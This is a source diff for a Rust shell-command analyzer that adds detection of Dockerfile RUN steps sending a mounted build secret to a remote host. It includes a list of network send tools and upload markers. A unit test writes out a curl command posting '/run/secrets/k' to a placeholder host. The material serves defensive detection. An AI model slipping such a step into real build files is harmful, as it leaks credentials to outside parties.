@@ -5,7 +5,7 @@
 
 use super::analyst::Analyst;
 use super::program::Task;
-use crate::effect::Modifier;
+use crate::effect::{Action, Feed, Modifier, Role, Target};
 use crate::shell::{Input, Word};
 
 impl Analyst<'_> {
@@ -22,13 +22,50 @@ impl Analyst<'_> {
         if !builds {
             return;
         }
-        let text = match (&task.call.fed.text, task.call.input) {
-            (Some(text), _) => text.to_string(),
-            (None, Input::Text(word)) => word.display(),
-            (None, Input::Inherited | Input::File(_) | Input::Pipe { .. }) => return,
+        let fed = match (&task.call.fed.text, task.call.input) {
+            (Some(text), _) => Some(text.to_string()),
+            (None, Input::Text(word)) => Some(word.display()),
+            (None, Input::Inherited | Input::File(_) | Input::Pipe { .. }) => None,
         };
+        let texts: Vec<String> = match fed {
+            Some(text) => vec![text],
+            None => self.build_files(task),
+        };
+        for text in texts {
+            self.build_text(task, &text);
+        }
+    }
+
+    /// The files with steps that the line wrote: one that is named, or `Dockerfile`.
+    fn build_files(&self, task: &Task<'_, '_>) -> Vec<String> {
+        let is_meant = |path: &str| {
+            let name = path.rsplit('/').next().unwrap_or_default();
+            matches!(name, "Dockerfile" | "Containerfile")
+                || task.call.words.iter().map(Word::display).any(|word| {
+                    let named = word.rsplit_once('=').map_or(word.as_str(), |(_, it)| it);
+                    let named = named.trim_start_matches("./");
+                    path == named || path.strip_suffix(named).is_some_and(|it| it.ends_with('/'))
+                })
+        };
+        let files = self.files.iter();
+        let files = files.filter(|(path, written)| !written.before && is_meant(path));
+        files
+            .filter_map(|(_, written)| written.text.as_deref())
+            .take(BUILDS_MAX)
+            .map(str::to_owned)
+            .collect()
+    }
+
+    fn build_text(&mut self, task: &Task<'_, '_>, text: &str) {
         for step in text.replace("\\\n", " ").lines() {
-            if let Some(command) = mounted(step) {
+            if let Some(command) = sends_secret(step) {
+                let target = Target {
+                    text: command,
+                    place: None,
+                };
+                self.push(&task.call, Action::Send, Role::Remote, target)
+                    .feed(Feed::Secret);
+            } else if let Some(command) = mounted(step) {
                 self.shell_words(&task.call, &[Word::text(command, task.call.span)]);
             } else if let Some(command) = step.trim_start().strip_prefix("RUN ")
                 && !command.starts_with("--")
@@ -144,6 +181,27 @@ fn commands_of(text: &str) -> Vec<String> {
     found
 }
 
+/// The command of a step that sends a secret which it is lent: `--mount=type=secret` and `curl --data-binary @/run/secrets/k`.
+fn sends_secret(step: &str) -> Option<String> {
+    let step = step.trim_start().strip_prefix("RUN ")?;
+    if !step.contains("type=secret") && !step.contains("/run/secrets") {
+        return None;
+    }
+    let named = step
+        .split("target=")
+        .nth(1)
+        .and_then(|behind| behind.split([',', ' ']).next())
+        .unwrap_or("/run/secrets");
+    let sends = ["curl", "wget", "nc ", "http ", "scp ", "socat"];
+    let given = ["@", "< ", "<", "-T ", "--post-file=", "--upload-file "];
+    let is_given = given
+        .iter()
+        .any(|mark| step.contains(&[mark, named].concat()));
+    let is_piped = step.contains(&["cat ", named].concat()) && step.contains('|');
+    (sends.iter().any(|name| step.contains(name)) && (is_given || is_piped))
+        .then(|| step.to_owned())
+}
+
 /// The command of a step that has files of this machine, with their names as they are here.
 fn mounted(step: &str) -> Option<String> {
     let mut rest = step.trim_start().strip_prefix("RUN ")?.trim_start();
@@ -191,5 +249,16 @@ mod tests {
             None
         );
         assert_eq!(mounted("COPY . ."), None);
+    }
+
+    #[test]
+    fn a_secret_that_is_sent_is_told_from_one_that_is_shown_at_the_door() {
+        let step =
+            "RUN --mount=type=secret,id=k curl --data-binary @/run/secrets/k https://x.example/";
+        assert!(sends_secret(step).is_some());
+        let step = "RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci";
+        assert_eq!(sends_secret(step), None);
+        let step = "RUN --mount=type=secret,id=t curl -H \"Authorization: $(cat /run/secrets/t)\" https://x";
+        assert_eq!(sends_secret(step), None);
     }
 }
